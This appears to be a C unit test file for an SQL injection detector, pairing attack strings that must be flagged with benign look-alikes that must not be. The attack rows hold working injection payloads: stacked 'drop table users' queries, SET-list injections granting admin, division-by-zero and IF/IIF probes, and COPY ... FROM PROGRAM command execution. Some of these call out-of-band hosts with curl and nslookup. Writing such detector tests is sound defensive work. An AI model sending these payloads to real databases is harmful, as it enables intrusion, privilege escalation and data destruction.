/* test_payload_rts5.c - helper s's red-team rows, session 19: SQL
 * injection left open by the rev7 review and last session's note: probes
 * padded past the length bounds (comment bytes after a sort's "--",
 * blanks after a division by zero, zeros before it, a field's own text
 * before a SET list's break), blanks around the division's '/', ';'
 * before a sort's comment and NULLS FIRST/LAST, the whole value COPY t
 * FROM PROGRAM 'cmd' (and E'..', $$..$$, a qualified table), SET lists
 * with a qualified or quoted column (payload_sqli_tail.c,
 * payload_sqli_dml.c, payload_sqli_gate.c's doors); spreadsheet IFs on
 * cells or constants, no longer a kill (payload_sqli_tail.c if_whole);
 * and the look-alikes beside them. Each value is judged as a query value
 * and as a form body (payload_rt_table.h); each attack also at the kill
 * line (60) as a query value. */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <cmocka.h>

#include "tests/unit/payload_rt_table.h"

#define Q PAYLOAD_SQLI
#define N PAYLOAD_NONE
#define X10(s) s s s s s s s s s s
#define X100(s) X10(X10(s))

static const struct rtcase attacks[] = {
	/* rev7 E13b: padding SQL ignores, past the old length caps */
	{ "name ASC --" X100("-") X10("---"), Q },
	{ "name ASC -- " X100(" ") X10("   "), Q },
	{ "price DESC #" X100("    "), Q },
	{ "name" X100(" ") X10("     ") "ASC -- ", Q },
	{ "1 and 1/0" X10("      "), Q },
	{ "1 and 1/0" X100("     "), Q },
	{ X10("000000") "1 and 1/0", Q },
	{ "1" X10("       ") "and 1/0", Q },
	{ "1 or 1/0#" X10("        "), Q },
	{ X10("xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx") "',is_admin='1", Q },
	{ X10("Lorem ipsum dolor sit amet, consectetur adipiscing elit. ") "', role='admin", Q },
	/* rev7 G1: blanks around the division's '/' */
	{ "1 and 1 / 0", Q },
	{ "1 and 1/ 0", Q },
	{ "1 OR 1 / 0-- -", Q },
	/* rev7 E9: ';' before the sort's comment, NULLS FIRST, a comment
	 * left open */
	{ "name ASC;-- ", Q },
	{ "price DESC;#", Q },
	{ "id ASC ;-- -", Q },
	{ "name ASC NULLS FIRST -- ", Q },
	{ "name ASC /*", Q },
	/* rev7 L2, E12: COPY ... FROM PROGRAM as the whole value */
	{ "COPY t FROM PROGRAM 'id'", Q },
	{ "copy users from program 'curl http://x.oastify.com/'", Q },
	{ "copy public.t from program 'nslookup a.oast.fun'", Q },
	{ "COPY (SELECT 1) TO PROGRAM $$id$$", Q },
	{ "COPY t FROM PROGRAM $q$id$q$", Q },
	{ "COPY t FROM PROGRAM E'id'", Q },
	/* rev7 E13: a qualified or quoted column in the SET list */
	{ "bob',users.is_admin='1", Q },
	{ "bob',\"is_admin\"='1", Q },
	{ "bob',[is_admin]='1", Q },
	/* MySQL's LIMIT point: the row into variables; LIMIT or OFFSET of
	 * a query */
	{ "1 LIMIT 1,1 INTO @,@", Q },
	{ "10 limit 1 into @a -- -", Q },
	{ "10 OFFSET (SELECT CASE WHEN (1=1) THEN 0 ELSE 1 END)", Q },
	{ "1 LIMIT (SELECT 1)", Q },
	/* a stacked query after a one-name SELECT */
	{ "1; select name; drop table users", Q },
	{ "x'; select password; x", Q },
	/* kept at 60 (rev7 F7, decided): a sort field ending in a bare '#'
	 * is what a tool appends; a UI sends no comment mark */
	{ "price desc #", Q },
	/* rev8 L3/E12: an IF that is no spreadsheet formula: a comment after
	 * it, MSSQL's IIF, a division by zero or a hex literal inside, both
	 * branches numbers (the boolean probe) */
	{ "IF(1=1,1,0)-- ", Q },
	{ "IF(1=1,1,0)#", Q },
	{ "IIF(1=1,1,0)", Q },
	{ "IF(1=1,1,1/0)", Q },
	{ "IF(0x41='A',1,0)", Q },
	{ "IF(0x61=0x61,1,2)", Q },
	{ "5 AND 9508=IIF(9508=9508,9508,1/0)", Q },
	{ "IF(1=1,1,0)", Q },
	{ "IF(1=2,1,0)", Q },
	{ "IF(1>0,1,2)", Q },
	{ "IF(1=1,'a','b')-- -", Q },
	{ "IIF(1=1,'a','b')", Q },
	/* rev8 E1: a quoted table, a column list */
	{ "COPY \"t\" FROM PROGRAM 'id'", Q },
	{ "COPY t(a) FROM PROGRAM 'id'", Q },
	{ "COPY \"public\".\"t\" (a, b) FROM PROGRAM 'id'", Q },
	/* rev8 E2: ';' after the variables */
	{ "1 LIMIT 1 INTO @a;", Q },
	{ "1 LIMIT 1,1 INTO @a,@b; -- -", Q },
	/* rev8 E3: a parenthesised or exponent zero */
	{ "1 and 1 / (0)", Q },
	{ "1 and 1/((0))", Q },
	{ "1 and 1 / 0e0", Q },
	{ "1 or 1/0.0e5-- -", Q },
};

static void test_rts5_attacks(void **state)
{
	(void)state;
	rt_run("rts5", attacks, sizeof(attacks) / sizeof(attacks[0]));
	rt_kill_run("rts5", PAYLOAD_SQLI, attacks, sizeof(attacks) / sizeof(attacks[0]));
}

static void test_rts5_lookalikes(void **state)
{
	static const struct rtcase t[] = {
		/* rev7 F6: spreadsheet formulas on cells and constants */
		{ "IF(1=1,A1,B1)", N },
		{ "IF(2>1,\"yes\",0)", N },
		{ "IF(1=1,$A$1,B2)", N },
		{ "=IF(A1>0,\"positive\",\"negative\")", N },
		{ "=IF(AND(A1>1,B1<5),1,0)", N },
		{ "IF(A2=\"Yes\",1,2)", N },
		/* sort keys with padding and notes */
		{ "name ASC" X100(" "), N },
		{ "name ASC;" X10(" "), N },
		{ "name ASC NULLS LAST", N },
		{ "title asc -- alphabetical" X10(" "), N },
		{ "size desc # biggest first", N },
		{ "name ASC; -- then price", N },
		/* fractions and padding */
		{ "1 and 1 / 2" X10(" "), N },
		{ "4 and 1 / 2 inches", N },
		{ "0/0 games won", N },
		{ "1 AND 1/4 miles", N },
		{ "3/4 cup sugar, 1/0 is undefined", N },
		{ X10("0000") "1 and 1/2", N },
		/* long text with apostrophes and a list */
		{ X10("It's a long story, and the owner's dog barks. ") "That's it, like='this", N },
		{ X10("Bob's order list ") "Bob's, cheese, ham", N },
		/* LIMIT and OFFSET in prose */
		{ "10 offset (select the right one) carefully", N },
		{ "10 OFFSET (select the page size)", N },
		{ "page 2 OFFSET (select one of them)", N },
		{ "limit 1,1 per customer", N },
		/* ';' and SELECT in prose: a one-name select list and more prose */
		{ "Insert coin; select game; press start", N },
		{ "Pick a size; select color; checkout", N },
		/* COPY and program in prose */
		{ "copy (paste) to program files", N },
		{ "COPY (the document) to program manager", N },
		{ "copy from program guide", N },
		{ "Program copy: COPY 2 FROM PROGRAM NOTES", N },
		/* spreadsheet IFs near the probe's shape */
		{ "IF(2>1,\"yes\",\"no\")", N },
		{ "IF(1=1,\"a\",\"b\")", N },
		{ "1 and 1 / (2)", N },
		{ "1 and 1 / 0.5e0", N },
		{ "1 LIMIT 1 INTO @a; then more", N },
	};

	(void)state;
	rt_run("rts5", t, sizeof(t) / sizeof(t[0]));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_rts5_attacks),
		cmocka_unit_test(test_rts5_lookalikes),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
